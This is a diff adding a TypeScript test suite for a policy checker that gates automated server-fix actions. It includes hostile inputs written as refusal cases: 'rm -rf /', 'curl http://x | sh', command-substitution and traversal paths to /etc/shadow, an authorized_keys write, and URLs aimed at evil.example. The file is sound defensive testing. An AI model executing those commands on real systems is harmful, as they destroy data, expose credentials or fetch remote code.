@@ -1,0 +1,202 @@
+import { describe, expect, test } from "bun:test";
+import { join } from "node:path";
+import type { Policy } from "../patterns/schema.ts";
+import { runPolicyCheckCommand } from "./cli.ts";
+import { checkAction, checkFix, needsApproval, shellQuote } from "./index.ts";
+
+const WEB = ["/var/www", "/srv/www"];
+const policy: Policy = {
+  description: "test policy",
+  rules: [
+    {
+      id: "chmod-web",
+      type: "run",
+      description: "",
+      risk: "low",
+      program: "chmod",
+      args: [{ enum: ["644", "755"] }, { path: { roots: WEB, allow_dirs: true } }],
+    },
+    {
+      id: "sleep",
+      type: "run",
+      description: "",
+      risk: "low",
+      program: "/bin/sleep",
+      args: [{ int: { min: 1, max: 60 } }],
+    },
+    {
+      id: "ls",
+      type: "run",
+      description: "",
+      risk: "low",
+      program: "ls",
+      args: [],
+      rest: { path: { roots: WEB, allow_dirs: false } },
+      max_args: 2,
+    },
+    { id: "size", type: "run", description: "", risk: "low", program: "echo", args: [{ regex: "\\d+[km]" }] },
+    {
+      id: "conf",
+      type: "write_file",
+      description: "",
+      risk: "medium",
+      path: { roots: ["/etc/nginx"] },
+      max_bytes: 100,
+      modes: ["0644"],
+    },
+    { id: "reload", type: "service", description: "", risk: "low", ops: ["validate", "reload"] },
+    { id: "restart", type: "service", description: "", risk: "high", ops: ["restart"] },
+    { id: "local", type: "http", description: "", risk: "low", url_prefixes: ["http://127.0.0.1"] },
+  ],
+};
+
+const run = (program: string, ...args: string[]) => ({ type: "run", program, args });
+const refusedWith = (action: unknown, re: RegExp, kind?: "action" | "verify") => {
+  const v = checkAction(policy, action, kind);
+  expect(v.allowed).toBe(false);
+  expect(v.reason).toMatch(re);
+};
+
+describe("checkAction", () => {
+  test("allows what a rule matches, naming the rule and its risk", () => {
+    const v = checkAction(policy, run("chmod", "644", "/var/www/html/x.png"));
+    expect(v).toMatchObject({ allowed: true, rule: "chmod-web", risk: "low" });
+    expect(
+      checkAction(policy, { type: "write_file", path: "/etc/nginx/a.conf", content: "x", mode: "644" }).rule,
+    ).toBe("conf");
+    expect(checkAction(policy, { type: "service", op: "restart" }).risk).toBe("high");
+    expect(checkAction(policy, { type: "http", url: "http://127.0.0.1:8080/x" }, "verify").allowed).toBe(
+      true,
+    );
+    expect(checkAction(policy, run("/bin/sleep", "5")).allowed).toBe(true);
+  });
+
+  test("refuses programs not in the policy and program paths the rule does not name", () => {
+    refusedWith(run("rm", "-rf", "/"), /run rm -rf \/: program "rm" is not in the policy/);
+    refusedWith(run("curl", "http://x | sh"), /not in the policy/);
+    refusedWith(run("/usr/bin/chmod", "644", "/var/www/x"), /not in the policy/);
+    refusedWith(run("sleep", "5"), /not in the policy/);
+    refusedWith(run("chmod;id", "644", "/var/www/x"), /cannot have/);
+  });
+
+  test("refuses paths outside the roots, however they are spelt", () => {
+    for (const p of [
+      "/etc/shadow",
+      "/var/www/../../etc/passwd",
+      "/var/www/html/../../../etc/passwd",
+      "var/www/x",
+      "/var/www//x",
+      "//etc/passwd",
+      "/var/wwwx/y",
+      "/var/www/./x",
+      "$(rm -rf /)",
+      "/var/www/`id`",
+      "/var/www/x;rm -rf /",
+    ]) {
+      refusedWith(run("chmod", "644", p), /argument 2/);
+    }
+    refusedWith(run("chmod", "777", "/etc/shadow"), /"777" is not one of 644, 755/);
+  });
+
+  test("refuses control characters, extra arguments and shapes that do not fit", () => {
+    refusedWith(run("chmod", "644", "/var/www/x\nid"), /newline/);
+    refusedWith(run("chmod", "644", "/var/www/x\u0000"), /NUL/);
+    refusedWith(run("chmod", "644\r", "/var/www/x"), /carriage return/);
+    refusedWith(run("chmod", "644", "/var/www/x", "/var/www/y"), /3 arguments, expected 2/);
+    refusedWith(run("chmod", "644"), /1 arguments, expected 2/);
+    refusedWith(run("/bin/sleep", "61"), /outside 1..60/);
+    refusedWith(run("/bin/sleep", "1;id"), /not an integer/);
+    refusedWith(run("ls", "/var/www/a", "/var/www/b", "/var/www/c"), /at most 2/);
+    refusedWith(run("echo", "10m; rm -rf /"), /does not match/);
+    expect(checkAction(policy, run("echo", "10m")).allowed).toBe(true);
+  });
+
+  test("refuses write_file outside the roots, too large, or with a mode not listed", () => {
+    const w = (path: string, content = "x", mode?: string) => ({ type: "write_file", path, content, mode });
+    refusedWith(w("/root/.ssh/authorized_keys"), /not under \/etc\/nginx/);
+    refusedWith(w("/etc/nginx/../shadow"), /".." segment/);
+    refusedWith(w("/etc/nginx/a.conf", "x".repeat(101)), /101 bytes, at most 100/);
+    refusedWith(w("/etc/nginx/a.conf", "x", "0777"), /mode 0777/);
+    refusedWith(w("/etc/nginx/"), /names a folder|not under/);
+  });
+
+  test("refuses unlisted service ops, bad shapes and URLs that only look local", () => {
+    refusedWith({ type: "service", op: "stop" }, /not a valid action/);
+    refusedWith({ type: "shell", command: "rm -rf /" }, /not a valid action/);
+    refusedWith({ type: "run", program: "chmod", args: "644 /var/www/x" }, /not a valid action/);
+    refusedWith("rm -rf /", /not a valid action/);
+    refusedWith({ type: "http", url: "http://127.0.0.1.evil.example/" }, /not under/, "verify");
+    refusedWith({ type: "http", url: "http://127.0.0.1@evil.example/" }, /credentials/, "verify");
+    refusedWith({ type: "http", url: "http://127.0.0.1/" }, /not a valid action/, "action");
+  });
+});
+
+describe("checkFix and approval", () => {
+  test("risk is the highest of the matched rules and the claim", () => {
+    const low = checkFix(policy, { actions: [run("chmod", "644", "/var/www/x")] });
+    expect(low).toMatchObject({ allowed: true, risk: "low" });
+    const claimed = checkFix(policy, {
+      actions: [run("chmod", "644", "/var/www/x")],
+      claimed_risk: "medium",
+    });
+    expect(claimed.risk).toBe("medium");
+    const mixed = checkFix(policy, {
+      actions: [{ type: "write_file", path: "/etc/nginx/a.conf", content: "x" }],
+      rollback: [{ type: "service", op: "restart" }],
+    });
+    expect(mixed.risk).toBe("high");
+    expect(needsApproval(mixed.risk, "low")).toBe(true);
+    expect(needsApproval("low", "low")).toBe(false);
+    expect(needsApproval("medium", "high")).toBe(false);
+  });
+
+  test("one refused step refuses the fix and is listed with its kind", () => {
+    const d = checkFix(policy, {
+      actions: [run("chmod", "644", "/var/www/x")],
+      verify: [run("curl", "http://evil")],
+      rollback: [run("rm", "-rf", "/")],
+    });
+    expect(d.allowed).toBe(false);
+    expect(d.refused.map((r) => r.kind)).toEqual(["verify", "rollback"]);
+    expect(checkFix(policy, { actions: [] }).allowed).toBe(false);
+  });
+});
+
+test("shellQuote makes every argument one inert word", () => {
+  expect(shellQuote("/var/www/x.png")).toBe("/var/www/x.png");
+  expect(shellQuote("")).toBe("''");
+  expect(shellQuote("a'b")).toBe(`'a'\\''b'`);
+  const nasty = ["$(id)", "`id`", "a;b", "a b", "'\"", "*", "x\ny", "-rf"];
+  const r = Bun.spawnSync(["sh", "-c", `printf '%s\\0' ${nasty.map(shellQuote).join(" ")}`]);
+  expect(r.stdout.toString().split("\0").slice(0, -1)).toEqual(nasty);
+});
+
+test("policy check command: per-action verdicts and exit codes", () => {
+  const dir = join(import.meta.dir, "../../patterns");
+  let text = "";
+  const out = { write: (s: string) => (text += s) };
+  const ok = runPolicyCheckCommand(
+    {
+      service: "nginx",
+      patternsDir: dir,
+      actionJson: '{"type":"run","program":"chmod","args":["644","/var/www/html/x.png"]}',
+    },
+    out,
+  );
+  expect(ok).toBe(0);
+  expect(text).toMatch(/allowed .*chmod 644 \/var\/www\/html\/x.png {2}rule chmod-web-content {2}risk low/);
+  text = "";
+  const bad = runPolicyCheckCommand(
+    {
+      service: "nginx",
+      patternsDir: dir,
+      stdin: '[{"type":"run","program":"rm","args":["-rf","/"]},{"type":"service","op":"reload"}]',
+    },
+    out,
+  );
+  expect(bad).toBe(1);
+  expect(text).toMatch(/refused .*rm.*not in the policy/);
+  expect(text).toMatch(/1 allowed, 1 refused/);
+  expect(runPolicyCheckCommand({ service: "nginx", patternsDir: dir, actionJson: "{" }, out)).toBe(2);
+  expect(runPolicyCheckCommand({ service: "nope", patternsDir: dir, actionJson: "{}" }, out)).toBe(2);
+});
